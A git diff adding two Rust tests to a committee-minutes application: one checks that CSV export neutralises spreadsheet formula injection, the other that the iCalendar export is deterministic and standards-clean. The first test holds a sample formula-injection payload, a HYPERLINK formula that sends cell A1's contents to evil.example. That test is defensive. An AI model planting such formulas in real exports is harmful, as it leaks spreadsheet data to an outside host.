@@ -480,3 +480,88 @@ fn tracker_lists_the_bodys_recommendations_of_the_period_with_their_status() {
         .tracker(ids.scrutiny, d(2015, 4, 1), d(2015, 1, 1), d(2015, 7, 1))
         .is_err());
 }
+
+/// A referral response typed as a spreadsheet formula reaches the tracker CSV as words: the
+/// cell starts with `'` (OWASP's rule), so a spreadsheet never runs it; ordinary cells are as
+/// typed.
+#[test]
+fn tracker_csv_cells_a_spreadsheet_would_run_are_neutralised() {
+    let (_dir, mut store, ids) = demo_store();
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
+    store
+        .advance_referral(
+            ids.referral,
+            &ReferralStep::Consider {
+                outcome: ReferralOutcome::Accepted,
+                response_text: formula.into(),
+                meeting_id: None,
+                minute_id: None,
+            },
+        )
+        .unwrap();
+    let text = store
+        .tracker_csv(ids.scrutiny, d(2014, 10, 1), d(2015, 3, 31), d(2015, 3, 7))
+        .unwrap();
+    let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
+    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
+    let row = reader.records().next().unwrap().unwrap();
+    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
+    assert_eq!(&row[col("response")], format!("'{formula}"));
+    assert_eq!(&row[col("referred_to")], "Cabinet");
+    for cell in row.iter() {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a cell a spreadsheet would run: {cell}"
+        );
+    }
+    for (raw, shown) in [
+        ("+44 1446 700111", "'+44 1446 700111"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("Cabinet = yes", "Cabinet = yes"),
+        ("", ""),
+    ] {
+        assert_eq!(minutes_store::export::csv_cell(raw), shown);
+    }
+}
+
+/// The calendar written by the `icalendar` crate: the same file for the same stamp (no
+/// random ids, no clock), one Europe/London VTIMEZONE holding only what RFC 5545 allows there
+/// (no UID or DTSTAMP), and no bare CR anywhere.
+#[test]
+fn meetings_calendar_is_the_same_each_time_with_one_clean_time_zone() {
+    let (_dir, store, ids, _) = with_awkward_text();
+    let stamp = chrono::DateTime::parse_from_rfc3339("2015-06-01T09:30:00Z")
+        .unwrap()
+        .with_timezone(&chrono::Utc);
+    let ics = store.meetings_ics(ids.scrutiny, stamp).unwrap();
+    assert_eq!(store.meetings_ics(ids.scrutiny, stamp).unwrap(), ics);
+    let unfolded = icalendar::parser::unfold(&ics);
+    let cal = icalendar::parser::read_calendar(&unfolded).unwrap();
+    let zones: Vec<_> = cal
+        .components
+        .iter()
+        .filter(|c| c.name == "VTIMEZONE")
+        .collect();
+    assert_eq!(zones.len(), 1);
+    let names = |c: &icalendar::parser::Component| {
+        c.properties
+            .iter()
+            .map(|p| p.name.as_str().to_string())
+            .collect::<Vec<_>>()
+    };
+    assert_eq!(names(zones[0]), ["TZID"]);
+    for part in &zones[0].components {
+        let n = names(part);
+        assert!(
+            !n.iter().any(|k| k == "UID" || k == "DTSTAMP"),
+            "{}: {n:?}",
+            part.name
+        );
+    }
+    assert!(ics.starts_with("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Cofnod//"));
+    assert!(ics.ends_with("END:VCALENDAR\r\n"));
+    assert!(!ics.replace("\r\n", "").contains('\r'), "no bare CR");
+}
